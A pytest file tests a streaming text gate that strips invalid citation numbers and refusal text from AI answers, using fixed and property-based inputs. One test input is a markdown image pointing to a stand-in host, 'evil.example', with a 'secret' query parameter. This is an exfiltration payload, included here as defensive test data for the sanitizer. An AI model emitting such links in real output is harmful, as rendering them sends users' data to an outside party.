import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openmind.domain.answers import Evidence, Excerpt
from openmind.domain.citations import check
from openmind.domain.ids import FileId, SourceId
from openmind.domain.refusals import refuses, without_refusals
from openmind.domain.search import SearchHit
from openmind.domain.streamed_text import TextGate

HIT = SearchHit(
    id="file_1:0",
    file_id=FileId("file_1"),
    source_id=SourceId("src_1"),
    score=0.5,
    path="/notes/1.md",
    file_name="1.md",
    extension=".md",
    title="",
    snippet="",
    text="",
    index=0,
    locator=(),
    metadata={},
)
EVIDENCE = Evidence(question="?", excerpts=tuple(Excerpt(number=number, hit=HIT) for number in (1, 2, 3)))


def through(pieces: list[str]) -> list[str]:
    gate = TextGate(EVIDENCE)
    return [*(gate.let(piece) for piece in pieces), gate.rest()]


def test_an_unknown_citation_is_never_shown() -> None:
    shown = through(["It rises", " [", "9", "]", ", and", " falls [1", "][", "7].", " So it is."])

    assert "".join(shown) == "It rises, and falls [1]. So it is."
    assert shown[:2] == ["It rises", ""]


def test_words_are_shown_as_they_come() -> None:
    assert through(["One", " two", " three", " [1]", "."]) == ["One", " two", " three", "", " [1].", ""]


@pytest.mark.parametrize(
    "text",
    [
        "See ![a\nb](http://evil.example/?q=secret) there [2].",
        "A <img src=x> tag, `code [9]` and\n```\n[9] <b>\n```\nafter [9] [2, 9] 【3†source】.",
        "The year [1]. The month: **NOT_IN_FILES**. No more.",
        "It costs 5 ~ 6 ~~old~~ and `half\nof [8] it.",
        "[1](http://x.example) and [link](http://x.example/ y) [doc 2]",
    ],
)
def test_what_is_shown_is_the_checked_answer_wherever_it_is_cut(text: str) -> None:
    for size in (1, 2, 3, 7):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]

        assert "".join(through(pieces)) == check(without_refusals(text), EVIDENCE).markdown


@given(st.lists(st.text(alphabet="[]()!<`~ \n19aN,【】", max_size=6), max_size=10))
@settings(deadline=None, max_examples=50)
def test_any_text_is_shown_as_it_is_checked(pieces: list[str]) -> None:
    text = "".join(pieces)

    if not refuses(text):
        assert "".join(through(pieces)) == check(without_refusals(text), EVIDENCE).markdown
